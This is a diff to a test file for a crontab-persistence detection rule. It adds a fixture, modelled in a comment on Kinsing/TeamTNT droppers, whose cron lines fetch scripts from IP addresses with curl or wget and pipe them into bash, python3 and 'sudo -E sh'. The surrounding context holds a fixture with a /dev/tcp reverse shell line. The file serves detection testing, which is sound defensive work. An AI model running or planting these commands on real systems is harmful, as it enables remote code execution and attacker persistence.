@@ -34,6 +34,18 @@ testRule(rule, {
       expect: [{ severity: 'critical', path: '/etc/crontab', user: 'root', evidence: /\/etc\/crontab:2: .*base64 -d \| sh[\s\S]*edited since installation/ }],
     },
     {
+      // The Kinsing/TeamTNT droppers write the shell as a full path, and wrap curl in sudo -E or env.
+      name: 'downloads piped into /bin/bash, /usr/bin/python3 and sudo -E bash by full path',
+      facts: cron((r) =>
+        r.write('/var/spool/cron/root', '*/5 * * * * (curl -s http://194.38.20.199/d.sh||wget -q -O- http://194.38.20.199/d.sh)|/bin/bash\n*/7 * * * * wget -q -O - http://209.141.40.190/x.py | /usr/bin/python3\n*/9 * * * * curl -s http://194.38.20.199/s.sh | sudo -E /bin/sh\n', { mtime: RECENT }),
+      ),
+      expect: [
+        { severity: 'critical', path: '/var/spool/cron/root', user: 'root', evidence: /root:1: .*\|\/bin\/bash/ },
+        { severity: 'critical', evidence: /root:2: .*\| \/usr\/bin\/python3/ },
+        { severity: 'critical', evidence: /root:3: .*sudo -E \/bin\/sh/ },
+      ],
+    },
+    {
       name: 'reverse shell in a RHEL spool crontab of www-data',
       facts: cron((r) => r.write('/var/spool/cron/www-data', '* * * * * /bin/bash -c "bash -i >& /dev/tcp/10.1.2.3/4444 0>&1"\n', { mtime: RECENT })),
       expect: [{ severity: 'critical', path: '/var/spool/cron/www-data', user: 'www-data', evidence: /dev\/tcp/ }],
